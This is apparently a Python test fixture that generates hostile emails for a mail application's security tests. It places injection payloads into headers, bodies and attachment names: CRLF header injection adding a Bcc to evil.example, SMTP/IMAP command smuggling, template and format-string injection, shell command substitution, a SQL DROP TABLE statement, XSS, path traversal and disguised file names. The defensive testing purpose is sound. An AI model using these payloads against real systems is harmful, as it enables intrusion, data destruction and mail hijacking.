"""Words that want to become a header field, a command, a template, a log line, a control sequence or a path."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote

from tests.hostile.mails import CANARY, WANTED, mail, multipart

if TYPE_CHECKING:
    from collections.abc import Iterator

WORDS = {
    "a field": f"x\r\nBcc: {CANARY}@evil.example",
    "a field after a bare return": f"x\rBcc: {CANARY}@evil.example",
    "a field after a bare feed": f"x\nBcc: {CANARY}@evil.example",
    "a field after a line separator": f"x\u2028Bcc: {CANARY}@evil.example\x85Bcc: {CANARY}@evil.example",
    "a body": f"x\r\n\r\n{CANARY}-body",
    "an SMTP command": f"x\r\n.\r\nRCPT TO:<{CANARY}@evil.example>\r\n",
    "an IMAP command": f'x"\r\nA1 CREATE {CANARY}\r\nA2 SEARCH HEADER Message-ID "',
    "an IMAP literal": f"{{5+}}\r\nA1 CREATE {CANARY}\r\n",
    "a template": "{{ 111111111*7 }}{% for a in range(9) %}{{ a }}{% endfor %}",
    "a template that reads": f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{% include '/etc/{CANARY}' %}}",
    "a template that never ends": "{% for a in range(999999999) %}x{% endfor %}",
    "a format": f"{{0.__class__}} %s%s%n %({CANARY})s ${{{CANARY}}}",
    "a log line": f"x\n2026-11-16T09:00:00Z error    forged {CANARY}-line",
    "a log line of the journal": f"x\n<3>forged {CANARY}-line",
    "a title of the terminal": f"\x1b]0;{CANARY}-title\x07\x1b[2J\x9b31m",
    "a shell command": f"$(touch {CANARY})`touch {CANARY}`;touch {CANARY}|touch {CANARY}",
    "a statement": f"'; DROP TABLE message; --{CANARY}",
    "a page": f"<script>alert('{CANARY}')</script><img src=http://{CANARY}.example/>",
    "a path": f"../../../../{CANARY}",
    "an absolute path": f"/{CANARY}/{CANARY}",
    "a path of Windows": f"..\\..\\C:\\{CANARY}",
    "a path with an end": f"{CANARY}.pht\0.png",
    "a program": f"{CANARY}.svg.exe.lnk ",
    "a device": "/dev/full",
    "words the other way round": f"\u202e{CANARY}\u2066gnp.exe",
}


def mails() -> Iterator[tuple[str, bytes]]:
    """See ``tests.hostile``."""
    for name, words in WORDS.items():
        told = _encoded(words)
        number = sum(words.encode("utf-8"))
        own = f"Message-ID: <{number}@mail.example>"
        yield f"{name} in the subject", mail(own, f"Subject: {told}", subject=None)
        yield f"{name} in the name", mail(own, f"From: {told} <hanna@mail.example>", from_=None)
        yield f"{name} in the id", mail(f"Message-ID: <{told}@mail.example>", f"References: <{told}>")
        yield f"{name} in the address", mail(f'From: "{told}"@mail.example', own, from_=None)
        yield f"{name} in Reply-To", mail(own, f"Reply-To: {told} <{CANARY}@evil.example>", f"Sender: {told}")
        yield f"{name} in the text", mail(own, body=f"{WANTED}\r\n{words}\r\n")
        yield (
            f"{name} in a file name",
            multipart(
                f"Content-Type: text/plain\r\n\r\n{WANTED}",
                f"Content-Type: image/svg+xml; name*=utf-8''{quote(words)}\r\n"
                f"Content-Disposition: attachment; filename*=utf-8''{quote(words)}\r\n\r\n<svg onload='{CANARY}'/>",
            ),
        )


def _encoded(words: str) -> str:
    """The words as an encoded word, so that they hold together until somebody decodes them."""
    return f"=?utf-8?q?{quote(words, safe='').replace('%', '=')}?="
